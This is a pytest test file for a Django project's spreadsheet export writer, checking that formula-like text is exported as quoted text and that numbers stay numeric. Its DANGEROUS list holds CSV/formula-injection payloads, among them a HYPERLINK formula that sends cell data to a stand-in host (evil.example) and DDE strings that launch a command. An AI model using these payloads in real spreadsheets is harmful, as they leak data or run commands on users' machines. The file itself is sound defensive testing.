"""Spreadsheet exports never turn text into formulas (formula injection), and numbers stay
numbers."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from library.xlsx import Spreadsheet

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(rows, header=("案例名称", "数值")):
    book = Spreadsheet()
    book.sheet("案例", header, rows)
    content = book.to_bytes()
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(io.BytesIO(content)).active, xml


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    sheet, xml = written([[text, 1]], header=(text, "数值"))
    assert "<f>" not in xml
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


def test_numbers_and_ordinary_text_are_unchanged():
    sheet, xml = written([["北辰区某车架厂", -3], ["一次合格率", 98.5], ["a=b", 0]])
    assert [cell.value for cell in sheet["B"]][1:] == [-3, 98.5, 0]
    assert all(cell.data_type == "n" for cell in sheet["B"][1:])
    assert sheet["A2"].quotePrefix is False
    assert sheet["A4"].value == "a=b"
    assert "<f>" not in xml


def test_every_export_goes_through_the_one_writer():
    """Only library/xlsx.py creates workbooks, so its guard covers every export (other
    modules may read uploaded spreadsheets)."""
    from django.conf import settings

    offenders = [
        str(path.relative_to(ROOT))
        for app in settings.PROJECT_APPS
        for path in (ROOT / app).rglob("*.py")
        if path != ROOT / "library" / "xlsx.py"
        and any(word in path.read_text(encoding="utf-8") for word in ("Workbook(", "xlsxwriter"))
    ]
    assert offenders == []
